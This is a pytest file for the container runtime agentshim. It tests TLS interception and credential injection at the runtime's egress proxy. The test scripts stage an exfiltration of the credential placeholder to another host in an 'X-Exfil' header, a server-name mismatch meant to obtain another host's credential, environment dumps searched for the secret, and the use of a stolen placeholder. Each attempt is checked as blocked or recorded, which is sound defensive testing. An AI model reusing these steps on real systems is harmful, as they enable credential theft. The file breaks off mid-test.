"""Credentials and request rules over HTTPS: TLS interception at the egress
proxy (docs/CREDENTIALS.md, "TLS"), end to end.

The lab of test_network.py (agentshim inside a test network namespace). The
upstreams are HTTPS servers of this module on the lab's loopback, with
certificates from a test CA made here; the proxy's upstream trust store is
pointed at that CA through the runtime's test-only environment variable
AGENTSHIM_TEST_UPSTREAM_CA (read by the supervisor from the runtime's own
environment; the container cannot set it). A third server's certificate
comes from a CA nobody trusts.

Clients in the container: curl, Python urllib, node (https over a CONNECT
socket: node's fetch ignores HTTPS_PROXY) and git, from the Debian image of
test_realimage.py (bench/realimage.py's cached tarball) when it exists;
otherwise those rows are skipped with the reason and curl runs in the
busybox rootfs. Each must trust the run's CA through the mounted bundle and
the variables, and the upstream must receive the real secret; a placeholder
sent to another allowed (intercepted) host arrives stripped and is
recorded; a denied method gets 403 with the reason; an upstream with an
untrusted certificate is refused; a container that never asked for a
credential gets an opaque tunnel and no CA. The secret's bytes are then
searched for in every record file and the container's view.
"""
import base64
import glob
import json
import os
import subprocess
import sys
import tarfile  # noqa: F401  (documentation: the image is a plain rootfs tar)
import time
from urllib.parse import unquote

import pytest

from conftest import AGENTSHIM, REPO, run, wait_records  # noqa: F401
from test_network import UPSTREAM, NetRun, copy_with_libs, lab, net_rootfs, out  # noqa: F401  (fixtures)

SECRET = "sk-live-0123456789abcdefSECRETVALUE"
sys.path.insert(0, os.path.join(REPO, "bench"))
from realimage import TARBALL as IMAGE_TAR, ensure_tarball  # noqa: E402  (built once, cached outside the repo)

TLS_LOGSERVER = r"""
import http.server, json, socketserver, ssl, sys
addr, port, log, cert, key = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def reply(self):
        n = int(self.headers.get("Content-Length") or 0)
        if n:
            self.rfile.read(n)
        with open(log, "a") as f:
            f.write(json.dumps({"where": port, "line": self.requestline,
                                "headers": [[k, v] for k, v in self.headers.items()]}) + "\n")
        out = json.dumps({"where": port, "line": self.requestline.split(" ")[0] + " ok"}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_DELETE = reply
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def get_request(self):
        sock, a = self.socket.accept()
        sock.settimeout(10)
        try:
            return ctx.wrap_socket(sock, server_side=True), a
        except (ssl.SSLError, OSError):
            sock.close()
            raise
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
S((addr, port), H).serve_forever()
"""

NODE_CLIENT = r"""
const http = require('http'), https = require('https'), tls = require('tls');
const req = http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'api.allowed.test:9443'});
req.on('connect', (res, sock) => {
  if (res.statusCode !== 200) { console.log('node connect ' + res.statusCode); return; }
  const r = https.request({host: 'api.allowed.test', port: 9443, path: '/v1/node',
                           headers: {Authorization: 'Bearer ' + process.env.API_TOKEN},
                           createConnection: () => tls.connect({socket: sock, servername: 'api.allowed.test'})},
    res2 => { let b = ''; res2.on('data', d => b += d); res2.on('end', () => console.log('node ' + res2.statusCode + ' ' + b)); });
  r.on('error', e => console.log('node error ' + e.message));
  r.end();
});
req.on('error', e => console.log('node error ' + e.message));
req.end();
"""

PY_CLIENT = r"""
import os, urllib.request
r = urllib.request.Request("https://api.allowed.test:9443/v1/python",
                           headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
print("python", urllib.request.urlopen(r, timeout=10).read().decode())
"""

# Raw CONNECT + TLS with what ordinary clients never send: ALPN h2 only (an
# HTTP/2-only client), and a server name other than the CONNECT host (an
# attempt to get a certificate, or the credential, for another host).
PY_ODD = r"""
import socket, ssl
def tunnel():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT api.allowed.test:9443 HTTP/1.1\r\nHost: api.allowed.test:9443\r\n\r\n")
    r = b""
    while b"\r\n\r\n" not in r:
        r += s.recv(1)
    return s
for name, alpn, sni in (("h2only", ["h2"], "api.allowed.test"), ("sni", None, "other.test")):
    s = tunnel()
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    if alpn:
        ctx.set_alpn_protocols(alpn)
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        print(name, "handshake-ok", t.selected_alpn_protocol())
    except (ssl.SSLError, OSError) as e:
        print(name, "refused", e)
"""


def openssl(*args):
    run(["openssl", *args], check=True)


def make_ca(d, name):
    key, cert = os.path.join(d, name + ".key"), os.path.join(d, name + ".pem")
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", key,
            "-out", cert, "-days", "2", "-subj", f"/CN=agentshim test {name}")
    return key, cert


def make_leaf(d, name, ca_key, ca_cert, sans):
    key, csr, cert = (os.path.join(d, name + x) for x in (".key", ".csr", ".pem"))
    ext = os.path.join(d, name + ".ext")
    with open(ext, "w") as f:
        f.write("subjectAltName=" + ",".join(s if s.startswith("IP:") else "DNS:" + s for s in sans) + "\nextendedKeyUsage=serverAuth\n")
    openssl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", key, "-out", csr,
            "-subj", f"/CN={sans[0]}")
    openssl("x509", "-req", "-in", csr, "-CA", ca_cert, "-CAkey", ca_key, "-CAcreateserial", "-out", cert, "-days",
            "2", "-extfile", ext)
    return cert, key


@pytest.fixture(scope="module")
def tls_lab(lab, tmp_path_factory):
    """HTTPS logging servers: 9443 (the credential's API, trusted test CA),
    9444 (another allowed host, trusted), 9445 (a certificate from a CA
    nobody trusts). The runtime's upstream trust store is the test CA."""
    d = str(tmp_path_factory.mktemp("tlslab"))
    ca_key, ca = make_ca(d, "ca")
    bad_key, bad_ca = make_ca(d, "untrusted")
    good = make_leaf(d, "good", ca_key, ca, ["api.allowed.test", "other.test"])
    bad = make_leaf(d, "bad", bad_key, bad_ca, ["api.allowed.test"])
    srv = os.path.join(d, "tlsserver.py")
    with open(srv, "w") as f:
        f.write(TLS_LOGSERVER)
    log = os.path.join(d, "requests.ndjson")
    for port, (cert, key) in ((9443, good), (9444, good), (9445, bad)):
        lab.spawn(["/usr/bin/python3", srv, UPSTREAM, str(port), log, cert, key])
        lab.wait_listening(UPSTREAM, port)
    old = os.environ.get("AGENTSHIM_TEST_UPSTREAM_CA")
    os.environ["AGENTSHIM_TEST_UPSTREAM_CA"] = ca
    yield {"log": log, "ca": ca, "dir": d}
    if old is None:
        os.environ.pop("AGENTSHIM_TEST_UPSTREAM_CA", None)
    else:
        os.environ["AGENTSHIM_TEST_UPSTREAM_CA"] = old


@pytest.fixture(scope="module")
def debian_root(tmp_path_factory):
    """The Debian image (python3, git, nodejs) unpacked, with the host's
    curl added (built by mmdebstrap once, as test_realimage's); None when
    it cannot be built."""
    try:
        ensure_tarball(IMAGE_TAR)
    except (OSError, subprocess.CalledProcessError):
        return None
    d = str(tmp_path_factory.mktemp("debian") / "rootfs")
    os.makedirs(d)
    run(["tar", "-xf", IMAGE_TAR, "-C", d, "--exclude=./dev/*"], check=True, timeout=300)
    copy_with_libs("/usr/bin/curl", d)
    with open(os.path.join(d, "client.js"), "w") as f:
        f.write(NODE_CLIENT)
    with open(os.path.join(d, "client.py"), "w") as f:
        f.write(PY_CLIENT)
    with open(os.path.join(d, "odd.py"), "w") as f:
        f.write(PY_ODD)
    return d


def received(log):
    if not os.path.exists(log):
        return []
    return [json.loads(line) for line in open(log)]


def secret_file(tmp):
    p = os.path.join(tmp, "api.secret")
    with open(p, "w") as f:
        f.write(SECRET + "\n")
    os.chmod(p, 0o600)
    return p


def make_run(lab, rootfs, tmp, annotate=True, ports=(9443,), rules=None):
    n = NetRun(lab, tmp, rootfs, ["api.allowed.test:9443", "api.allowed.test:9445", "other.test:9444"])
    with open(n.policy) as f:
        pol = json.load(f)
    pol["credentials"] = {"api": {
        "source": {"file": secret_file(tmp)},
        "placeholder_env": "API_TOKEN",
        "destinations": [{"host": "api.allowed.test", "port": p, "path_prefix": "/v1/"} for p in ports],
        "apply": {"header": "Authorization", "format": "Bearer {}"}}}
    if rules:
        pol["network"]["request_rules"] = rules
    with open(n.policy, "w") as f:
        json.dump(pol, f)
    if annotate:
        n.bundle.config["annotations"] = {"dev.agentshim.credentials": "api"}
        n.bundle.save()
    return n


def every_file(root):
    for dirpath, _, files in os.walk(root):
        for name in files:
            p = os.path.join(dirpath, name)
            if os.path.isfile(p) and not os.path.islink(p):
                yield p


def headers_of(g):
    return dict((k.lower(), v) for k, v in g["headers"])


RULES = [
    # GET and POST only on the API; any method on the other host (a rule
    # makes it intercepted, so a placeholder sent there is caught).
    {"host": "api.allowed.test", "port": 9443, "methods": ["GET", "POST"], "action": "allow"},
    {"host": "other.test", "port": 9444, "action": "allow"},
]


def test_https_clients_get_the_secret_and_it_never_leaks(lab, tls_lab, net_rootfs, debian_root, tmp_path):
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, rules=RULES)
    full = debian_root is not None
    if full:
        n.bundle.config["root"] = {"path": debian_root, "readonly": True}
        n.bundle.save()
    before = len(received(tls_lab["log"]))
    script = (
        'echo "placeholder=$API_TOKEN";'
        'echo "cafile=$SSL_CERT_FILE,$REQUESTS_CA_BUNDLE,$NODE_EXTRA_CA_CERTS,$CURL_CA_BUNDLE,$GIT_SSL_CAINFO";'
        # curl: the placeholder where the API expects its key, then keep-alive
        # requests on one connection (each checked and recorded).
        'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" https://api.allowed.test:9443/v1/models'
        '  https://api.allowed.test:9443/v1/second; echo;'
        # A method the rules deny: 403 with the reason, over TLS.
        'curl -sS --max-time 10 -w " status=%{http_code}" -X DELETE https://api.allowed.test:9443/v1/models; echo;'
        # The placeholder to another allowed (intercepted) host: stripped.
        'curl -sS --max-time 10 -H "X-Exfil: $API_TOKEN" https://other.test:9444/collect; echo;'
    )
    if full:
        script += (
            'python3 /client.py 2>&1; echo " pyrc=$?"; python3 /odd.py 2>&1;'
            'node /client.js 2>&1; echo " noderc=$?";'
            'git -c http.extraHeader="Authorization: Bearer $API_TOKEN" ls-remote'
            '  https://api.allowed.test:9443/v1/repo.git 2>&1 | head -3; echo " git done";'
        )
    script += (
        'echo ENV; cat /proc/self/environ | tr "\\0" "\\n"; echo FILES;'
        'grep -rl -s "SECRETVALU[E]" /etc /tmp /run /root /home 2>/dev/null; echo END;'
        'grep -c "BEGIN CERTIFICATE" /etc/agentshim-ca.pem; grep agentshim-ca /proc/self/mountinfo'
    )
    r = n.sh(script, timeout=120)
    text = out(r) + r.stderr.decode(errors="replace")
    assert r.returncode == 0, text
    placeholder = text.split("placeholder=")[1].split()[0]
    assert placeholder.startswith("agentshim-cred-"), text
    assert "cafile=" + ",".join(["/etc/agentshim-ca.pem"] * 5) in text, text
    assert " ro," in text.split("END")[1] or ",ro" in text.split("END")[1], text  # mounted read-only
    assert '{"where": 9443, "line": "GET ok"}' in text, text
    assert "status=403" in text and "no request rule for this destination allows DELETE" in text, text
    assert '{"where": 9444, "line": "GET ok"}' in text, text
    if full:
        assert "python {" in text and "pyrc=0" in text, text
        assert "node 200" in text, text
        assert "h2only refused" in text and "no application protocol" in text.lower(), text
        assert "sni refused" in text and "unrecognized name" in text.lower(), text
        # The image's own CAs are still trusted: the bundle holds them too.
        assert int(text.split("END")[1].split()[0]) > 50, text

    got = received(tls_lab["log"])[before:]
    by_path = {}
    for g in got:
        by_path.setdefault(g["line"].split(" ")[1].split("?")[0], []).append(headers_of(g))
    paths = ["/v1/models", "/v1/second"] + (["/v1/python", "/v1/node", "/v1/repo.git/info/refs"] if full else [])
    for p in paths:
        assert by_path[p][0].get("authorization") == f"Bearer {SECRET}", (p, got)
    assert "x-exfil" not in by_path["/collect"][0], got
    assert not any(g["line"].startswith("DELETE") for g in got), got
    for g in got:
        assert placeholder not in json.dumps(g), g

    # The record: each intercepted request is an event with its path and the
    # credential's name; the placeholder sent to other.test is caught.
    conns = [e["data"] for e in n.events({"net.connection"})]
    tls_reqs = [c for c in conns if c.get("tls") == "intercepted" and c["method"] != "CONNECT"]
    applied = sorted(c["path"] for c in tls_reqs if c.get("credential") == "api")
    assert applied[:2] == ["/v1/models", "/v1/second"] or "/v1/models" in applied, conns
    assert all(c["host"] == "api.allowed.test" for c in tls_reqs if c.get("credential")), conns
    second = [c for c in tls_reqs if c["path"] == "/v1/second"][0]
    first = [c for c in tls_reqs if c["path"] == "/v1/models" and c["method"] == "GET"][0]
    assert first["client_port"] == second["client_port"] and second["request"] == 2, conns  # keep-alive
    denied = [c for c in tls_reqs if c["method"] == "DELETE"]
    assert denied and denied[0]["status"] == 403 and denied[0]["decision"] == "denied", conns
    if full:
        odd = [c for c in conns if c["method"] == "CONNECT" and c["decision"] == "denied"]
        # (strings from the container are pct-encoded in the record)
        assert any("HTTP/2-only" in unquote(c["reason"]) for c in odd), conns
        assert any("TLS server name other.test does not match the CONNECT host api.allowed.test"
                   in unquote(c["reason"]) for c in odd), conns
    caught = [e["data"] for e in n.events({"net.credential"})]
    assert [(c["host"], c["action"]) for c in caught] == [("other.test", "stripped")], caught
    ns = n.events({"net.namespace"})[0]["data"]
    assert ns["tls"]["interception"] is True and ns["tls"]["ca_path"] == "/etc/agentshim-ca.pem", ns
    run_dir = n.last_run_dir()
    envelope = json.load(open(os.path.join(run_dir, "attestation.intoto.json")))
    statement = base64.b64decode(envelope["payload"])
    net = json.loads(statement)["predicate"]["network"]
    # (git may ask twice; the count is the record's, by name)
    n_applied = len([c for c in conns if c.get("credential") == "api"])
    assert n_applied >= len(paths) and net["credentials"]["requests"]["api"] == n_applied, net
    assert net["tls"]["intercepted_connections"] >= len(paths) and net["tls"]["certificates_issued"] == 2, net
    assert net["credentials"]["placeholders_caught"] == 1, net
    assert b"SECRETVALUE" not in statement

    # The secret's bytes: nowhere in the record, the state, the container's
    # files, or what the container printed.
    assert "SECRETVALUE" not in text
    for root in (n.audit, n.root, n.bundle.path):
        for p in every_file(root):
            with open(p, "rb") as f:
                assert b"SECRETVALUE" not in f.read(), p
    if not full:
        pytest.skip(f"curl rows passed; python, node, git, the h2-only and server-name rows need the Debian "
                    f"image {IMAGE_TAR} (bench/realimage.py builds it)")


def test_upstream_with_an_untrusted_certificate_is_refused(lab, tls_lab, net_rootfs, tmp_path):
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, ports=(9445,))
    before = len(received(tls_lab["log"]))
    r = n.sh('curl -sS -v --max-time 10 https://api.allowed.test:9445/v1/x 2>&1; echo " rc=$?"')
    text = out(r)
    assert "rc=0" not in text and "502" in text, text
    assert "upstream certificate not trusted" in text, text
    assert not received(tls_lab["log"])[before:]
    refused = [e["data"] for e in n.events({"net.connection"}) if e["data"]["port"] == 9445]
    assert len(refused) == 1 and refused[0]["status"] == 502 and refused[0]["end"] == "refused", refused
    assert "upstream certificate not trusted" in unquote(refused[0]["reason"]), refused


def test_container_that_never_asked_gets_an_opaque_tunnel_and_no_ca(lab, tls_lab, net_rootfs, tmp_path):
    """The policy defines the credential; without the annotation the CONNECT
    is an opaque tunnel: the client sees the upstream's own certificate (the
    test CA's, given to curl explicitly), and nothing is mounted or set."""
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, annotate=False)
    with open(tls_lab["ca"]) as f, open(os.path.join(n.bundle.rootfs, "test-ca.pem"), "w") as g:
        g.write(f.read())
    r = n.sh('echo "ca=${SSL_CERT_FILE:-unset} tok=${API_TOKEN:-unset}";'
             'grep -c agentshim-ca /proc/self/mountinfo;'
             'curl -sS -v --max-time 10 --cacert /test-ca.pem https://api.allowed.test:9443/v1/own 2>&1 |'
             ' grep -i -e "issuer:" -e "where"')
    text = out(r)
    assert "ca=unset tok=unset" in text, text
    assert text.split("tok=unset")[1].split()[0] == "0", text
    assert "agentshim test ca" in text.lower() and '"where": 9443' in text, text
    conns = [e["data"] for e in n.events({"net.connection"})]
    assert conns and all("tls" not in c for c in conns), conns
    ns = n.events({"net.namespace"})[0]["data"]
    assert "tls" not in ns, ns


def test_rotation_applies_a_new_secret_without_restarting(lab, tls_lab, net_rootfs, tmp_path):
    """A file source is re-read when it changes (checked at most once a
    second per request): the running container's next request carries the
    new value."""
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp)
    path = os.path.join(tmp, "api.secret")
    flag = os.path.join(n.bundle.rootfs, "rotated")
    if os.path.exists(flag):
        os.unlink(flag)
    before = len(received(tls_lab["log"]))
    script = ('curl -sS --max-time 10 https://api.allowed.test:9443/v1/before; echo;'
              'i=0; while [ ! -e /rotated ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done;'
              'curl -sS --max-time 10 https://api.allowed.test:9443/v1/after; echo')
    n.bundle.sh(script)
    import uuid
    cid = "t" + uuid.uuid4().hex[:12]
    p = subprocess.Popen(n.lab.runtime(AGENTSHIM, "--root", n.root, "--audit-dir", n.audit, "--policy", n.policy,
                                       "run", "--bundle", n.bundle.path, cid),
                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        for _ in range(300):
            if any("/v1/before" in g["line"] for g in received(tls_lab["log"])[before:]):
                break
            time.sleep(0.1)
        tmpfile = path + ".new"
        with open(tmpfile, "w") as f:
            f.write("sk-rotated-NEWVALUE\n")
        os.chmod(tmpfile, 0o600)
        os.rename(tmpfile, path)
        time.sleep(1.1)
        open(flag, "w").close()
        so, se = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
        n.cli("delete", "--force", cid)
    got = {g["line"].split(" ")[1]: headers_of(g) for g in received(tls_lab["log"])[before:]}
    assert got["/v1/before"]["authorization"] == f"Bearer {SECRET}", (got, so, se)
    assert got["/v1/after"]["authorization"] == "Bearer sk-rotated-NEWVALUE", (got, so, se)
    rot = [e["data"] for e in n.events({"net.credential_rotation"}) if e["data"].get("action") == "rotated"]
    assert rot and rot[0]["credential"] == "api" and "NEWVALUE" not in json.dumps(rot), rot


def test_container_joining_the_network_uses_its_owners_credentials(lab, tls_lab, net_rootfs, debian_root, tmp_path):
    """A pod as its clients build one (containerd's CRI, `docker run
    --network container:A`): container A owns the network and asked for the
    credential; container B joins A's network through A's --pid-file pid and
    asks for it too. A's proxy serves both: B gets A's placeholder, trusts
    A's run CA next to its own image's bundle, and the upstream receives the
    real secret from B's request; B's record holds the decision with
    served_by A. A credential A does not hold is refused for B with the
    reason."""
    import uuid
    tmp = str(tmp_path)
    a = make_run(lab, net_rootfs, tmp)
    a.bundle.sh("sleep 600")
    aid = "a" + uuid.uuid4().hex[:12]
    pidfile = os.path.join(tmp, "a.pid")
    r = a.cli("create", "--bundle", a.bundle.path, "--pid-file", pidfile, aid)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    try:
        assert a.cli("start", aid).returncode == 0
        sentinel = int(open(pidfile).read())
        b_root = debian_root or net_rootfs
        from conftest import Bundle
        b = Bundle(os.path.join(tmp, "b"), net_rootfs)
        b.config["root"] = {"path": b_root, "readonly": True}
        for n in b.config["linux"]["namespaces"]:
            if n["type"] == "network":
                n["path"] = f"/proc/{sentinel}/ns/net"
        b.config["annotations"] = {"dev.agentshim.credentials": "api"}
        b.sh('echo "placeholder=$API_TOKEN cafile=$SSL_CERT_FILE";'
             'grep -c "BEGIN CERTIFICATE" /etc/agentshim-ca.pem;'
             'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" https://api.allowed.test:9443/v1/pod;'
             'echo " rc=$?"')
        before = len(received(tls_lab["log"]))
        bid = "b" + uuid.uuid4().hex[:12]
        try:
            r = a.cli("run", "--bundle", b.path, bid, timeout=90)
        finally:
            a.cli("delete", "--force", bid)
        text = out(r) + r.stderr.decode(errors="replace")
        assert r.returncode == 0, text
        # A's placeholder (from A's own environment, read through /proc).
        a_init = json.loads(out(a.cli("state", aid)))["pid"]
        a_env = open(f"/proc/{a_init}/environ", "rb").read().split(b"\0")
        a_ph = [e.decode() for e in a_env if e.startswith(b"API_TOKEN=")][0].split("=", 1)[1]
        assert f"placeholder={a_ph} cafile=/etc/agentshim-ca.pem" in text, text
        if debian_root:
            assert int(text.split("cafile=/etc/agentshim-ca.pem")[1].split()[0]) > 50, text  # image CAs too
        assert '"where": 9443' in text and "rc=0" in text, text
        got = received(tls_lab["log"])[before:]
        assert [headers_of(g).get("authorization") for g in got] == [f"Bearer {SECRET}"], got

        # B asks for a credential A does not hold: refused, saying where to ask.
        with open(a.policy) as f:
            pol = json.load(f)
        pol["credentials"]["other"] = dict(pol["credentials"]["api"], placeholder_env="OTHER_TOKEN")
        with open(a.policy, "w") as f:
            json.dump(pol, f)
        b.config["annotations"] = {"dev.agentshim.credentials": "other"}
        b.save()
        cid = "c" + uuid.uuid4().hex[:12]
        r = a.cli("create", "--bundle", b.path, cid)
        a.cli("delete", "--force", cid)
        err = r.stderr.decode(errors="replace")
        assert r.returncode != 0 and f"agentshim container {aid}'s) does not hold (it holds: api)" in err, err

        # Record evasion: a container that never asked (no annotation) but
        # learned the owner's placeholder (here: given in its environment)
        # uses it. The owner's proxy applies it — containers sharing a
        # network share its credentials (docs/CREDENTIALS.md "Pods") — and the
        # record must name that container, not the one that asked.
        b.config["annotations"] = {}
        b.config["process"]["env"].append(f"STOLEN={a_ph}")
        b.sh(f'curl -sS --max-time 10 -H "Authorization: Bearer $STOLEN" https://api.allowed.test:9443/v1/stolen;'
             f' echo " rc=$?"; echo "asked=${{API_TOKEN:-none}}"')
        did = "d" + uuid.uuid4().hex[:12]
        try:
            r = a.cli("run", "--bundle", b.path, did, timeout=90)
        finally:
            a.cli("delete", "--force", did)
        text = out(r)
        # No placeholder of its own; it trusts the owner's CA all the same
        # (every joiner of an intercepting network does).
        assert "asked=none" in text and "rc=0" in text, text
    finally:
        a.cli("delete", "--force", aid)
    # B's record: the request, applied with the credential, served by A.
    conns = [e["data"] for e in a.events({"net.connection"})]
    mine = [c for c in conns if c.get("path") == "/v1/pod" and c.get("served_by") == aid]
    assert mine and mine[0]["credential"] == "api", conns
    # The stolen use: in A's record with D as its origin, and in D's own.
    stolen = [c for c in conns if c.get("path") == "/v1/stolen" and c.get("credential") == "api"]
    in_owner = [c for c in stolen if "served_by" not in c]
    in_user = [c for c in stolen if c.get("served_by") == aid]
    assert in_owner and all({o["container"] for o in c["origin"]} == {did} for c in in_owner), stolen
    assert in_user, stolen
    for root in (a.audit, a.root):
        for p in every_file(root):
            with open(p, "rb") as f:
                assert b"SECRETVALUE" not in f.read(), p


class ClientLab:
    """For the client tests: a test CA and a leaf for 127.0.0.2 (127.0.0.1 is
    in the NO_PROXY the runtime sets), a free port, the HTTPS logging
    server's script, and a runtime wrapper that names the test CA as the
    proxy's upstream trust store (the runtime's own environment, test-only;
    clients such as conmon do not pass theirs on, so an operator's wrapper
    is how it reaches the runtime)."""

    def __init__(self, d):
        import socket
        ca_key, self.ca = make_ca(d, "clientca")
        self.cert, self.key = make_leaf(d, "clientleaf", ca_key, self.ca, ["IP:127.0.0.2"])
        with socket.socket() as s:
            s.bind(("127.0.0.2", 0))
            self.port = s.getsockname()[1]
        self.srv = os.path.join(d, "tlsserver.py")
        with open(self.srv, "w") as f:
            f.write(TLS_LOGSERVER)
        self.log = os.path.join(d, "requests.ndjson")
        self.wrapper = os.path.join(d, "agentshim-test-ca")
        with open(self.wrapper, "w") as f:
            f.write(f'#!/bin/sh\nAGENTSHIM_TEST_UPSTREAM_CA="{self.ca}" exec "{AGENTSHIM}" "$@"\n')
        os.chmod(self.wrapper, 0o755)

    @classmethod
    def for_test(cls, tmp_path):
        import clients
        missing = clients.ensure_packages()
        if missing:
            pytest.skip(f"client binaries missing after scripts/deps.sh: {missing}")
        return cls(str(tmp_path))

    def check_record(self, audit, paths):
        """Every request in `paths` is an intercepted net.connection with the
        credential applied, and no record file holds the secret's bytes."""
        wait_records(audit)
        conns = []
        for f in glob.glob(os.path.join(audit, "runs", "*", "events.ndjson")):
            conns += [json.loads(line)["data"] for line in open(f) if '"net.connection"' in line]
        applied = {c["path"] for c in conns if c.get("credential") == "api" and c.get("tls") == "intercepted"}
        assert applied >= set(paths), conns
        for f in every_file(audit):
            with open(f, "rb") as fh:
                assert b"SECRETVALUE" not in fh.read(), f

    def check_upstream(self, paths):
        got = {g["line"].split(" ")[1]: headers_of(g) for g in received(self.log)}
        for path in paths:
            assert got[path].get("authorization") == f"Bearer {SECRET}", got

    def server_cmd(self):
        return ["/usr/bin/python3", self.srv, "127.0.0.2", str(self.port), self.log, self.cert, self.key]

    def policy(self, d, audit):
        return {"audit": {"dir": audit}, "network": {"allow": [f"127.0.0.2:{self.port}"]},
                "credentials": {"api": {
                    "source": {"file": secret_file(d)}, "placeholder_env": "API_TOKEN",
                    "destinations": [{"host": "127.0.0.2", "port": self.port, "path_prefix": "/v1/"}],
                    "apply": {"header": "Authorization", "format": "Bearer {}"}}}}


def test_intercepted_run_under_podman(net_rootfs, tmp_path):
    """The same interception with Podman as the client (`podman run
    --runtime agentshim --annotation dev.agentshim.credentials=api`): an
    HTTPS upstream on the host's loopback (127.0.0.2: 127.0.0.1 is in the
    NO_PROXY the runtime sets) with a test CA's certificate, the
    container's curl given only the placeholder and the variables the
    runtime set. The upstream receives the real secret; the container saw
    the run's CA, never the secret. Then `podman exec` into a running
    container: the exec'd process gets the same placeholder and trust
    variables, and its request is applied and recorded too."""
    import shutil
    import socket
    import clients
    up = ClientLab.for_test(tmp_path)
    d, port = str(tmp_path), up.port
    server = subprocess.Popen(up.server_cmd())
    p = clients.Podman(clients.short_tmpdir("pdc"))
    rt = ["--runtime", up.wrapper, "--runtime-flag", "policy=" + p.policy, "--runtime-flag", "audit-dir=" + p.audit]
    try:
        for _ in range(100):
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.2", port)) == 0:
                    break
            time.sleep(0.1)
        with open(p.policy, "w") as f:
            json.dump(up.policy(d, p.audit), f)
        rootfs = os.path.join(d, "rootfs")
        shutil.copytree(net_rootfs, rootfs, symlinks=True)
        url = f"https://127.0.0.2:{port}/v1"
        script = ('echo "token=$API_TOKEN ca=$SSL_CERT_FILE";'
                  f'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" {url}/podman-run; echo " rc=$?"')
        r = p(*rt, "run", "--rm", *p.ulimits(), "--annotation", "dev.agentshim.credentials=api", "--rootfs", rootfs,
              "sh", "-c", script, timeout=120)
        text = r.stdout.decode(errors="replace") + r.stderr.decode(errors="replace")
        if "rc=0" not in text:
            wait_records(p.audit)
            for f in glob.glob(os.path.join(p.audit, "runs", "*", "events.ndjson")):
                text += "".join(unquote(l) for l in open(f) if '"net.' in l)
        assert r.returncode == 0 and "rc=0" in text, text
        assert "token=agentshim-cred-" in text and "ca=/etc/agentshim-ca.pem" in text, text
        # podman exec: the exec'd process is tightened by the same settings.
        r = p(*rt, "run", "-d", "--name", "credexec", *p.ulimits(), "--annotation", "dev.agentshim.credentials=api",
              "--rootfs", rootfs, "sleep", "600", timeout=120)
        assert r.returncode == 0, r.stderr.decode(errors="replace")
        r = p(*rt, "exec", "credexec", "sh", "-c", script.replace("podman-run", "podman-exec"), timeout=60)
        etext = r.stdout.decode(errors="replace") + r.stderr.decode(errors="replace")
        assert r.returncode == 0 and "rc=0" in etext and "ca=/etc/agentshim-ca.pem" in etext, etext
        init_env = p.out(*rt, "exec", "credexec", "cat", "/proc/1/environ")
        assert etext.split("token=")[1].split()[0] in init_env, (etext, init_env)  # the same placeholder
        p(*rt, "rm", "-f", "-t", "0", "credexec", timeout=60)
        up.check_record(p.audit, ["/v1/podman-run", "/v1/podman-exec"])
    finally:
        server.kill()
        server.wait()
        p.stop()
    up.check_upstream(["/v1/podman-run", "/v1/podman-exec"])


def test_intercepted_run_under_docker(net_rootfs, tmp_path):
    """Docker as the client (`docker run --runtime agentshim --annotation
    dev.agentshim.credentials=api`, an image imported from the busybox+curl
    rootfs). The test's dockerd lives in a network namespace of its own with
    no way out, so the HTTPS upstream runs inside that namespace (127.0.0.2);
    the runtime is registered as a wrapper that names the test CA as the
    proxy's upstream trust store. The upstream receives the real secret,
    `docker exec` gets the same placeholder and trust variables, and the
    record names the credential applied."""
    import clients
    up = ClientLab.for_test(tmp_path)
    d, port = str(tmp_path), up.port

    class CredDockerd(clients.Dockerd):
        def write_config(self):
            path = super().write_config()
            pol = up.policy(d, self.audit)
            self.cred_policy = os.path.join(self.base, "policy-cred.json")
            with open(self.cred_policy, "w") as f:
                json.dump(pol, f)
            self.config["runtimes"]["agentshim-cred"] = {
                "path": up.wrapper, "runtimeArgs": ["--policy", self.cred_policy, "--audit-dir", self.audit]}
            with open(path, "w") as f:
                json.dump(self.config, f, indent=1)
            return path

    dk = CredDockerd(clients.short_tmpdir("dkc"))
    server = None
    try:
        dk.start()
        api = dk.out("version", "--format", "{{.Server.APIVersion}}").strip()
        if tuple(int(x) for x in api.split(".")) < (1, 43):
            pytest.skip(f"docker run --annotation needs Docker Engine 24 or later (API 1.43); this machine's "
                        f"dockerd speaks API {api} (Debian's docker.io 20.10). The same path is tested under "
                        f"Podman (test_intercepted_run_under_podman) and the runtime's CLI")
        server = subprocess.Popen(["ip", "netns", "exec", dk.netns, *up.server_cmd()])
        for _ in range(100):
            if run(["ip", "netns", "exec", dk.netns, "/usr/bin/python3", "-c",
                    f"import socket; socket.create_connection(('127.0.0.2', {port}), 1)"]).returncode == 0:
                break
            time.sleep(0.1)
        tar = subprocess.run(["tar", "-C", net_rootfs, "-c", "."], stdout=subprocess.PIPE, check=True).stdout
